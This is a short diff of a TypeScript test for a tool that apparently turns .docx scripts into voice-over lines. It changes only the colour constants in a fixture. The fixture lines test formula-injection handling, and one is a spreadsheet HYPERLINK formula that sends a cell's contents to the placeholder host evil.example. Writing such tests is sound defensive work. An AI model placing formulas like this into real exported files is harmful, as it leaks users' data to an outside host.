@@ -17,15 +17,15 @@ import { buildDocx, r } from './helpers/docx-builder.js';
 
 const cli = join(fileURLToPath(new URL('..', import.meta.url)), 'dist', 'cli', 'main.js');
 
-const GREY = '<w:color w:val="404040"/>';
-const BLUE = '<w:color w:val="1F4E79"/>';
+const RED = '<w:color w:val="C00000"/>';
+const BLUE = '<w:color w:val="0070C0"/>';
 const LINES: [string, string][] = [
-  [GREY, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'],
-  [GREY, '+33 1 23 45 67 89 is our number'],
+  [RED, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'],
+  [RED, '+33 1 23 45 67 89 is our number'],
   [BLUE, '-10% off everything this weekend'],
   [BLUE, '@channel please read this aloud'],
-  [GREY, '- a line that starts like a bullet'],
-  [GREY, 'A plain line, left as it is'],
+  [RED, '- a line that starts like a bullet'],
+  [RED, 'A plain line, left as it is'],
 ];
 const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');
 
@@ -33,7 +33,7 @@ const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;
 function script(): string {
   const dir = mkdtempSync(join(tmpdir(), 'vo-formula-'));
   writeFileSync(join(dir, 'script.docx'), buildDocx({ body: LINES.map(([look, text]) => `<w:p>${r(escape(text), look)}</w:p>`).join('') }));
-  writeFileSync(join(dir, 'vo-lines.config.json'), JSON.stringify({ voices: { '=Narrator': { color: '#404040' }, '@Host': { color: '#1F4E79' } } }));
+  writeFileSync(join(dir, 'vo-lines.config.json'), JSON.stringify({ voices: { '=Narrator': { color: '#C00000' }, '@Host': { color: '#0070C0' } } }));
   return dir;
 }
 
